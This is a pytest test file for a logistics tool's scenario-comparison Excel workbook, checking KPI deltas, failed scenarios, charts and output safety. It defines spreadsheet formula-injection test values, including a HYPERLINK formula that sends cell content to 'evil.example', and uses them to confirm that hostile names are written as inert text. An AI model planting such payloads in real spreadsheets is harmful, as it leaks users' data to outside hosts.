"""The what-if comparison workbook: columns, deltas, inputs that differ, failed scenarios, safety."""

from __future__ import annotations

import datetime as dt
import math
import pickle
from collections.abc import Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.cell import range_boundaries

from logistics.report.comparison import (
    CHART_KPIS,
    DIFFERENCE_COLUMNS,
    FAILED,
    SCENARIO_COLUMNS,
    ScenarioSummary,
    build_comparison_workbook,
    comparison_frame,
    failed_summary,
    judge,
    summarise,
    write_comparison_workbook,
)
from logistics.report.numbers import percent_met
from logistics.report.plan_workbook import build_plan_workbook
from logistics.report.run_sheet import RunInfo
from logistics.rules import schemas as s
from logistics.rules.overlays import InputDifference
from models.results import OBJECTIVE_TERMS, TABLE_COLUMNS, Plan, SolveStatus
from tests.libreoffice import convert_to_pdf
from tests.test_export import _cells, _table_frame
from tests.workbooks import three_base_scenario

TIMINGS = {"read": 0.5, "compile": 0.25, "build": 1.0, "solve": 4.0, "extract": 0.5, "write": 0.5}
SCENARIO_NAMES = ("base", "R2 closed", "threat up", "air refused")
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_DESCRIPTION = "@SUM(A1) -1"

# --------------------------------------------------------------------------------------------------
# Synthetic plans of the three-base mission (PORT > HUB > CAMP by road, HUB > CAMP by air)
# --------------------------------------------------------------------------------------------------

ROAD_PATH = "PORT > HUB > CAMP"
AIR_PATH = "HUB > CAMP"
PATH_ROUTES = {ROAD_PATH: (("R1", 600.0), ("R2", 350.0)), AIR_PATH: (("R3", 330.0),)}
CAMP_WATER_DEMAND = 60.0
CAMP_WATER_OPENING = 150.0
DAYS = (1, 2, 3, 4)


@dataclass(frozen=True)
class Convoy:
    """One convoy of a synthetic plan; everything else about it is derived consistently."""

    convoy_id: str
    mode: str
    depart_day: int
    vehicles: int
    arrival_day: int
    water_kl: float
    threat_level: int
    risk_weight: float

    @property
    def path(self) -> str:
        return ROAD_PATH if self.mode == "road" else AIR_PATH

    @property
    def round_trip_km(self) -> float:
        return 2.0 * sum(km for _, km in PATH_ROUTES[self.path])

    @property
    def exposure(self) -> float:
        return self.vehicles * self.round_trip_km * self.risk_weight

    @property
    def cost_usd(self) -> float:
        if self.mode == "road":
            return self.vehicles * self.round_trip_km * 2.5
        return self.vehicles * self.round_trip_km / 200.0 * 5000.0


def _frame(key: str, rows: Sequence[tuple[Any, ...]]) -> pd.DataFrame:
    return pd.DataFrame(list(rows), columns=list(TABLE_COLUMNS[key]))


def _camp_water(convoys: Sequence[Convoy]) -> list[tuple[Any, ...]]:
    """Stock rows of WATER at CAMP: 60 kL a day from 150 kL, plus what the convoys bring."""
    rows = []
    opening = CAMP_WATER_OPENING
    for day in DAYS:
        arrivals = sum(c.water_kl for c in convoys if c.arrival_day == day)
        met = min(CAMP_WATER_DEMAND, opening + arrivals)
        closing = opening + arrivals - met
        rows.append(
            ("CAMP", "WATER", day, opening, arrivals, 0.0, 0.0, CAMP_WATER_DEMAND, met,
             CAMP_WATER_DEMAND - met, closing, 200.0, 180.0, closing / CAMP_WATER_DEMAND,
             CAMP_WATER_DEMAND)
        )  # fmt: skip
        opening = closing
    return rows


def synthetic_plan(convoys: Sequence[Convoy], camp_garrison_shortfall: int) -> Plan:
    """A consistent optimal plan: the stock balance closes, cargo equals what convoys carry,
    route usage and objective terms are the sums of the convoys and tables."""
    stock = _frame("stock", _camp_water(convoys))
    convoy_rows = [
        (c.convoy_id, "L1" if c.mode == "road" else "L2", c.mode, c.path.split(" > ")[0], c.path,
         c.depart_day, c.arrival_day + 1, c.vehicles, 20 if c.mode == "road" else 0,
         c.threat_level, c.exposure, c.cost_usd, c.water_kl)
        for c in convoys
    ]  # fmt: skip
    route_rows = []
    for route_id, mode, km in (("R1", "road", 600.0), ("R2", "road", 350.0), ("R3", "air", 330.0)):
        users = [c for c in convoys if route_id in {r for r, _ in PATH_ROUTES[c.path]}]
        vehicles = sum(c.vehicles for c in users)
        exposure = sum(c.vehicles * 2 * km * c.risk_weight for c in users)
        route_rows.append(
            (route_id, mode, km, 4, 0, "", 1, 3, len(users), vehicles, 2 * km * vehicles, exposure)
        )
    shortfall = float(stock["shortfall"].sum())
    exposure = sum(c.exposure for c in convoys)
    cost = sum(c.cost_usd for c in convoys) + 43_750.0
    troop_days = camp_garrison_shortfall * len(DAYS)
    terms = {
        "shortfall": 1000.0 * shortfall,
        "garrison": 10.0 * troop_days,
        "safety_stock": 0.0,
        "end_stock": 0.0,
        "exposure": 0.01 * exposure,
        "cost": 0.001 * cost,
    }
    tables = {
        "allocation": _frame(
            "allocation",
            [
                ("U1", 600, "CAMP", "CAMP", 0.0, 0.0, None, None, 0, 0.0),
                ("U2", 400, "HUB", "HUB", 0.0, 0.0, None, None, 0, 0.0),
                ("U3", 150, "PORT", "HUB", 600.0, 43_750.0, 1, 3, 2, 0.0),
            ],
        ),
        "garrison": _frame(
            "garrison",
            [
                ("PORT", 0, 0, 0, 0, 1, 300),
                ("HUB", 100, 550, 0, 0, 1, 1000),
                (
                    "CAMP",
                    200 + camp_garrison_shortfall,
                    200,
                    camp_garrison_shortfall,
                    troop_days,
                    3,
                    600,
                ),
            ],
        ),
        "convoys": _frame("convoys", convoy_rows),
        "convoy_vehicles": _frame(
            "convoy_vehicles",
            [(c.convoy_id, "TRUCK" if c.mode == "road" else "HELO", c.vehicles) for c in convoys],
        ),
        "cargo": _frame(
            "cargo", [(c.convoy_id, "CAMP", c.arrival_day, "WATER", c.water_kl) for c in convoys]
        ),
        "stock": stock,
        "shortfalls": _frame(
            "shortfalls",
            [
                ("CAMP", "WATER", day, q, "no open path")
                for day, q in zip(DAYS, stock["shortfall"], strict=True)
                if q > 0
            ],
        ),
        "routes": _frame("routes", route_rows),
    }
    return Plan(
        status=SolveStatus.optimal,
        termination="optimal within 1 % gap",
        objective=sum(terms.values()),
        best_bound=sum(terms.values()) * 0.995,
        mip_gap_pct=0.5,
        objective_terms=terms,
        raw_terms={
            "shortfall_units": shortfall,
            "garrison_troop_days": float(troop_days),
            "safety_stock_unit_days": 0.0,
            "end_stock_deficit_units": 0.0,
            "exposure": exposure,
            "cost_usd": cost,
        },
        tables=tables,
        timings_s={"build": 1.0, "solve": 4.0, "extract": 0.5},
    )


def base_plan() -> Plan:
    """Two road convoys of 8 trucks bring 160 kL each: no shortfall (demand met 100 %)."""
    return synthetic_plan(
        [
            Convoy("C1", "road", 1, 8, 3, 160.0, 3, 1.5),
            Convoy("C2", "road", 2, 8, 4, 60.0, 3, 1.5),
        ],
        camp_garrison_shortfall=0,
    )


def road_closed_plan() -> Plan:
    """R2 closed: three air sorties of 2 helicopters bring 8 kL each; CAMP runs short.

    Water at CAMP by hand: day 1 150 → 90; day 2 90 + 8 → 38; day 3 38 + 8 = 46 (14 short) → 0;
    day 4 0 + 8 = 8 (52 short). Shortfall 66 of 240 kL: demand met 72.5 %.
    """
    return synthetic_plan(
        [
            Convoy("A1", "air", 1, 2, 2, 8.0, 1, 0.1),
            Convoy("A2", "air", 2, 2, 3, 8.0, 1, 0.1),
            Convoy("A3", "air", 3, 2, 4, 8.0, 1, 0.1),
        ],
        camp_garrison_shortfall=0,
    )


def threat_up_plan() -> Plan:
    """T1 at level 5: the same road convoys run at risk weight 4, and CAMP is 50 troops short."""
    return synthetic_plan(
        [
            Convoy("C1", "road", 1, 8, 3, 160.0, 5, 4.0),
            Convoy("C2", "road", 2, 8, 4, 60.0, 5, 4.0),
        ],
        camp_garrison_shortfall=50,
    )


DIFFERENCES = {
    "R2 closed": (
        InputDifference("R2 closed", "Routes", "R2", "open_to_day", "10", "0"),
        InputDifference("R2 closed", "Threats", "T1", "level", "4", "5", 5, 9),
    ),
    "threat up": (InputDifference("threat up", "Threats", "T1", "level", "4", "5", 1, 14),),
    "air refused": (InputDifference("air refused", "Routes", "R3", "*", "present", "removed"),),
}
AIR_REFUSED_ERROR = "Scenarios!E4 (value): 'maybe' is not yes or no"


def _run(name: str) -> RunInfo:
    return RunInfo(
        tool_version="0.1.0",
        input_file=f"/srv/uploads/mission_{name}.xlsx",
        input_sha256="cd" * 32,
        solver="HiGHS",
        solver_version="1.15.1",
        started_at=dt.datetime(2024, 1, 1, 8, 30, tzinfo=dt.UTC),
        timings_s=TIMINGS,
    )


@pytest.fixture(scope="module")
def mission() -> s.Scenario:
    return three_base_scenario()


@pytest.fixture(scope="module")
def plans() -> dict[str, Plan]:
    return {"base": base_plan(), "R2 closed": road_closed_plan(), "threat up": threat_up_plan()}


@pytest.fixture(scope="module")
def summaries(mission: s.Scenario, plans: dict[str, Plan]) -> list[ScenarioSummary]:
    """Base, two solved what-ifs and one that failed, in the order a batch returns them."""
    solved = [
        summarise(
            name,
            f"What if: {name}",
            mission,
            plan,
            _run(name),
            DIFFERENCES.get(name, ()),
            f"{name}.xlsx",
        )
        for name, plan in plans.items()
    ]
    failed = failed_summary("air refused", "No air", AIR_REFUSED_ERROR, DIFFERENCES["air refused"])
    return [*solved, failed]


@pytest.fixture(scope="module")
def workbook(tmp_path_factory: pytest.TempPathFactory, summaries: list[ScenarioSummary]) -> Path:
    path = tmp_path_factory.mktemp("comparison") / "comparison.xlsx"
    write_comparison_workbook(path, summaries, run=_run("base"))
    return path


def _kpi_table(path: Path) -> pd.DataFrame:
    return _table_frame(openpyxl.load_workbook(path)["Comparison"], "Comparison").set_index("kpi")


def _header_row(ws: Any, table: str) -> int:
    _, header_row, _, _ = range_boundaries(ws.tables[table].ref)
    return int(header_row)


def _number(value: object) -> float | None:
    if isinstance(value, bool) or not isinstance(value, int | float):
        return None
    return float(value) if math.isfinite(value) else None


# --------------------------------------------------------------------------------------------------
# Structure
# --------------------------------------------------------------------------------------------------


def test_sheets_and_exact_columns(workbook: Path) -> None:
    wb = openpyxl.load_workbook(workbook)
    assert wb.sheetnames == ["Comparison", "Charts", "Scenarios", "Run"]
    kpis = _table_frame(wb["Comparison"], "Comparison")
    assert list(kpis.columns) == [
        "kpi",
        "unit",
        *SCENARIO_NAMES,
        "delta_R2 closed",
        "delta_threat up",
        "delta_air refused",
    ]
    differences = _table_frame(wb["Comparison"], "InputDifferences")
    assert list(differences.columns) == list(DIFFERENCE_COLUMNS)
    scenarios = _table_frame(wb["Scenarios"], "Scenarios")
    assert list(scenarios.columns) == list(SCENARIO_COLUMNS)
    assert scenarios["scenario"].tolist() == list(SCENARIO_NAMES)
    assert list(_table_frame(wb["Run"], "Run").columns) == ["section", "item", "value", "unit"]


def test_one_row_per_kpi_and_objective_term(workbook: Path, mission: s.Scenario) -> None:
    rows = list(_kpi_table(workbook).index)
    shortfall_rows = [f"shortfall_{supply.supply_id}" for supply in mission.supplies]
    assert rows[0] == "status"
    assert rows[-len(OBJECTIVE_TERMS) :] == [f"objective_{t}" for t in OBJECTIVE_TERMS]
    required = {"demand_met_pct", "shortfall_total", "convoys", "exposure", "cost_usd"}
    assert required | set(shortfall_rows) <= set(rows)
    assert len(rows) == len(set(rows))


def test_frozen_headers_and_filters(workbook: Path) -> None:
    wb = openpyxl.load_workbook(workbook)
    comparison = wb["Comparison"]
    header_row = _header_row(comparison, "Comparison")
    assert comparison.freeze_panes == f"C{header_row + 1}"
    assert wb["Scenarios"].freeze_panes == "A2"
    assert wb["Run"].freeze_panes == "A2"
    tables = [table for ws in wb.worksheets for table in ws.tables.values()]
    assert sorted(t.name for t in tables) == ["Comparison", "InputDifferences", "Run", "Scenarios"]
    assert all(t.autoFilter is not None for t in tables)


# --------------------------------------------------------------------------------------------------
# Values and deltas
# --------------------------------------------------------------------------------------------------


def test_every_delta_is_scenario_minus_base(
    workbook: Path, summaries: list[ScenarioSummary]
) -> None:
    table = _kpi_table(workbook)
    base = summaries[0]
    compared = 0
    for kpi in table.index:
        base_value = _number(base.value(kpi))
        for summary in summaries[1:]:
            value = _number(summary.value(kpi))
            delta = table.loc[kpi, f"delta_{summary.name}"]
            if base_value is None or value is None:
                assert pd.isna(delta), (kpi, summary.name)
            else:
                assert delta == pytest.approx(value - base_value), (kpi, summary.name)
                compared += 1
    assert compared > 40
    # By hand (see road_closed_plan): 66 kL short, demand met 72.5 % instead of 100 %.
    assert table.loc["shortfall_total", "delta_R2 closed"] == pytest.approx(66.0)
    assert table.loc["shortfall_WATER", "delta_R2 closed"] == pytest.approx(66.0)
    assert table.loc["demand_met_pct", "delta_R2 closed"] == pytest.approx(72.5 - 100.0)
    assert table.loc["convoys", "delta_R2 closed"] == 1
    assert table.loc["garrison_shortfall", "delta_threat up"] == 50
    # Exposure of 2 convoys × 8 trucks × 1,900 km at risk weight 4 instead of 1.5.
    assert table.loc["exposure", "delta_threat up"] == pytest.approx(2 * 8 * 1900 * 2.5)
    assert table.loc["status"].filter(like="delta_").isna().all()


def test_values_are_the_kpis_of_each_plan_workbook(
    workbook: Path, mission: s.Scenario, plans: dict[str, Plan]
) -> None:
    """The comparison shows, for every KPI, exactly what each scenario's plan workbook shows."""
    table = _kpi_table(workbook)
    for name, plan in plans.items():
        plan_kpis = _table_frame(
            build_plan_workbook(mission, plan, _run(name))["Summary"], "KPIs"
        ).set_index("kpi")["value"]
        for kpi, value in plan_kpis.items():
            assert table.loc[str(kpi), name] == value, (name, kpi)
        for term in OBJECTIVE_TERMS:
            assert table.loc[f"objective_{term}", name] == pytest.approx(plan.objective_terms[term])


def test_differences_table_lists_exactly_the_given_rows(workbook: Path) -> None:
    rows = _table_frame(openpyxl.load_workbook(workbook)["Comparison"], "InputDifferences")
    expected = [
        (
            d.scenario,
            d.sheet,
            d.record_id,
            d.field,
            d.base_value,
            d.new_value,
            d.first_day,
            d.last_day,
        )
        for name in SCENARIO_NAMES
        for d in DIFFERENCES.get(name, ())
    ]
    got = [tuple(None if pd.isna(v) else v for v in row) for row in rows.itertuples(index=False)]
    assert got == expected


def test_failed_scenario_is_a_blank_column_with_status_failed(workbook: Path) -> None:
    table = _kpi_table(workbook)
    assert table.loc["status", "air refused"] == FAILED
    others = table["air refused"].drop("status")
    assert others.isna().all()
    assert table["delta_air refused"].isna().all()
    scenarios = _table_frame(openpyxl.load_workbook(workbook)["Scenarios"], "Scenarios")
    row = scenarios.set_index("scenario").loc["air refused"]
    assert row["status"] == FAILED
    assert row["error"] == AIR_REFUSED_ERROR
    assert pd.isna(row["plan_file"])
    assert pd.isna(row["solve_s"])
    assert pd.isna(row["starting_plan"])
    solved = scenarios.set_index("scenario").loc["R2 closed"]
    columns = ["status", "plan_file", "solve_s", "starting_plan"]
    assert solved[columns].tolist() == ["optimal", "R2 closed.xlsx", 4.0, "none"]


def test_a_failed_base_leaves_every_delta_blank(
    tmp_path: Path, summaries: list[ScenarioSummary]
) -> None:
    failed_base = failed_summary("base", "The workbook as it is", "solver failed: out of memory")
    path = tmp_path / "comparison.xlsx"
    write_comparison_workbook(path, [failed_base, *summaries[1:]])
    assert [p.name for p in tmp_path.iterdir()] == ["comparison.xlsx"]
    table = _kpi_table(path)
    assert table["base"].drop("status").isna().all()
    assert table.filter(like="delta_").isna().all().all()
    assert table.loc["convoys", "R2 closed"] == 3


def test_base_comes_first_and_must_be_present(summaries: list[ScenarioSummary]) -> None:
    wb = build_comparison_workbook(list(reversed(summaries)))
    header = list(_table_frame(wb["Comparison"], "Comparison").columns)
    assert header[2:6] == ["base", "air refused", "threat up", "R2 closed"]
    with pytest.raises(ValueError, match="base case 'baseline'"):
        build_comparison_workbook(summaries, "baseline")
    with pytest.raises(ValueError, match="repeated: \\['threat up'\\]"):
        build_comparison_workbook([*summaries, summaries[2]])


# --------------------------------------------------------------------------------------------------
# Formatting and charts
# --------------------------------------------------------------------------------------------------


def _verdicts(path: Path, scenario: str) -> dict[str, str]:
    """``worse`` (red) or ``better`` (green) of each coloured delta of ``scenario``, by KPI."""
    ws = openpyxl.load_workbook(path)["Comparison"]
    header_row = _header_row(ws, "Comparison")
    header = [c.value for c in ws[header_row]]
    column = header.index(f"delta_{scenario}") + 1
    found = {}
    for row in range(header_row + 1, ws.max_row + 1):
        kpi, fill = ws.cell(row=row, column=1).value, ws.cell(row=row, column=column).fill
        if kpi and fill.fill_type == "solid":
            found[kpi] = "worse" if fill.fgColor.rgb.endswith("FFC7CE") else "better"
    return found


def test_deltas_are_judged_by_the_objectives_priorities(workbook: Path) -> None:
    """R2 closed: 66 kL unmet (the first priority) is worse, so the lower exposure of flying is
    not called better, and the objective is worse. Threat up: 50 troops of garrison short and
    more exposure are worse. The solver's own figures are never coloured."""
    closed = _verdicts(workbook, "R2 closed")
    for kpi in ("shortfall_total", "shortfall_WATER", "demand_met_pct", "objective"):
        assert closed[kpi] == "worse", kpi
    table = _kpi_table(workbook)
    assert table.loc["exposure", "delta_R2 closed"] < 0
    assert "exposure" not in closed
    threat = _verdicts(workbook, "threat up")
    for kpi in ("garrison_shortfall", "exposure", "objective", "objective_exposure"):
        assert threat[kpi] == "worse", kpi
    for verdicts in (closed, threat):
        assert not {"mip_gap_pct", "best_bound", "total_wall_s", "convoys"} & set(verdicts)


def test_a_plan_meeting_more_demand_is_better_even_when_it_costs_more(
    summaries: list[ScenarioSummary],
) -> None:
    """Against R2 closed as the base, the base plan meets all demand with more exposure: demand
    and the objective are better, exposure worse."""
    closed, base = summaries[1], summaries[0]
    frame = comparison_frame([replace(closed, name="base"), replace(base, name="open")])
    verdict = judge(frame, "delta_open")
    assert verdict["shortfall_total"] == verdict["demand_met_pct"] == "better"
    assert verdict["objective"] == "better"
    assert verdict["exposure"] == "worse"


def test_solver_noise_is_a_zero_delta_without_colour(summaries: list[ScenarioSummary]) -> None:
    """The same plan with its cost 4e-7 USD and exposure 1e-9 off: deltas 0, nothing coloured."""
    base = summaries[0]
    noisy = tuple(
        replace(k, value=float(k.value) + 4e-7)
        if k.kpi in ("cost_usd", "exposure") and isinstance(k.value, float)
        else k
        for k in base.kpis
    )
    frame = comparison_frame([base, replace(base, name="noisy", kpis=noisy)])
    deltas = frame.set_index("kpi")["delta_noisy"]
    assert deltas["cost_usd"] == 0 and deltas["exposure"] == 0
    assert str(deltas["cost_usd"]) == "0.0"  # never -0.0
    assert judge(frame, "delta_noisy") == {}


def test_a_scenario_with_any_shortfall_never_shows_100_pct_met(
    mission: s.Scenario, plans: dict[str, Plan]
) -> None:
    """5 kL short of 240,000 kL is 99.998 % met: shown 99.9 %, its delta -0.1, coloured worse."""
    base = summarise("base", "", mission, plans["base"], _run("base"), (), None)
    short = tuple(replace(k, value=99.9) if k.kpi == "demand_met_pct" else k for k in base.kpis)
    assert percent_met(240_000 - 5, 240_000, 5) == 99.9
    assert percent_met(240_000 - 0.04, 240_000, 0.04) == 100.0  # rounds to no shortfall
    frame = comparison_frame([base, replace(base, name="short", kpis=short)]).set_index("kpi")
    assert frame.loc["demand_met_pct", "base"] == 100.0
    assert frame.loc["demand_met_pct", "short"] == 99.9
    assert frame.loc["demand_met_pct", "delta_short"] == -0.1


def test_one_chart_per_headline_kpi_over_its_row(workbook: Path) -> None:
    wb = openpyxl.load_workbook(workbook)
    ws = wb["Comparison"]
    header_row = _header_row(ws, "Comparison")
    rows = {ws.cell(row=r, column=1).value: r for r in range(header_row + 1, ws.max_row + 1)}
    charts = wb["Charts"]._charts
    assert len(charts) == len(CHART_KPIS)
    for chart, kpi in zip(charts, CHART_KPIS, strict=True):
        (series,) = chart.series
        # Scenario columns C:F (base first) of the KPI's own row, as horizontal bars labelled
        # at their ends.
        assert series.val.numRef.f == f"'Comparison'!$C${rows[kpi]}:$F${rows[kpi]}"
        assert series.cat.strRef.f == f"'Comparison'!$C${header_row}:$F${header_row}"
        assert chart.type == "bar"
        assert chart.dataLabels.dLblPos == "outEnd"
    # Charts do not overlap each other.
    corners = [
        (c.anchor._from.row, c.anchor._from.col, c.anchor.to.row, c.anchor.to.col) for c in charts
    ]
    for i, a in enumerate(corners):
        for b in corners[i + 1 :]:
            assert a[2] < b[0] or b[2] < a[0] or a[3] < b[1] or b[3] < a[1]


# --------------------------------------------------------------------------------------------------
# Safety, provenance, portability
# --------------------------------------------------------------------------------------------------


def test_no_formula_cells(workbook: Path) -> None:
    wb = openpyxl.load_workbook(workbook)
    assert [c.coordinate for c in _cells(wb) if c.data_type == "f"] == []


def test_hostile_names_and_descriptions_stay_text(
    tmp_path: Path, summaries: list[ScenarioSummary]
) -> None:
    evil = replace(
        summaries[1],
        name=EVIL_NAME,
        description=EVIL_DESCRIPTION,
        differences=(InputDifference(EVIL_NAME, "Units", "U1", "name", "+1", "=2"),),
    )
    path = tmp_path / "comparison.xlsx"
    write_comparison_workbook(path, [summaries[0], evil, summaries[2]])
    wb = openpyxl.load_workbook(path)
    assert [c.coordinate for c in _cells(wb) if c.data_type == "f"] == []
    texts = [c.value for c in _cells(wb) if isinstance(c.value, str)]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    scenarios = _table_frame(wb["Scenarios"], "Scenarios").set_index("comparison_column")
    assert scenarios.loc["scenario_2", "scenario"] == "'" + EVIL_NAME
    assert scenarios.loc["scenario_2", "description"] == "'" + EVIL_DESCRIPTION
    header = list(_table_frame(wb["Comparison"], "Comparison").columns)
    assert header[2:] == ["base", "scenario_2", "threat up", "delta_scenario_2", "delta_threat up"]
    differences = _table_frame(wb["Comparison"], "InputDifferences")
    assert differences.iloc[0].tolist()[:6] == [
        "'" + EVIL_NAME,
        "Units",
        "U1",
        "name",
        "'+1",
        "'=2",
    ]


def test_run_sheet_names_the_tool_and_base_input_without_its_path(workbook: Path) -> None:
    rows = _table_frame(openpyxl.load_workbook(workbook)["Run"], "Run")
    value = {(r.section, r.item): r.value for r in rows.itertuples()}
    assert value[("tool", "version")] == "0.1.0"
    assert value[("input", "file")] == "mission_base.xlsx"
    assert value[("input", "base_scenario")] == "base"
    assert dt.datetime.fromisoformat(str(value[("run", "written_at")])).tzinfo is not None
    assert (value[("scenarios", "total")], value[("scenarios", "optimal")]) == (4, 3)
    assert value[("scenarios", FAILED)] == 1


def test_summaries_pickle_round_trip(summaries: list[ScenarioSummary]) -> None:
    for summary in summaries:
        data = pickle.dumps(summary)
        assert pickle.loads(data) == summary
        assert hash(pickle.loads(data)) == hash(summary)
        assert len(data) < 10_000


def test_libreoffice_converts_the_workbook(workbook: Path, tmp_path: Path) -> None:
    convert_to_pdf(workbook, tmp_path)
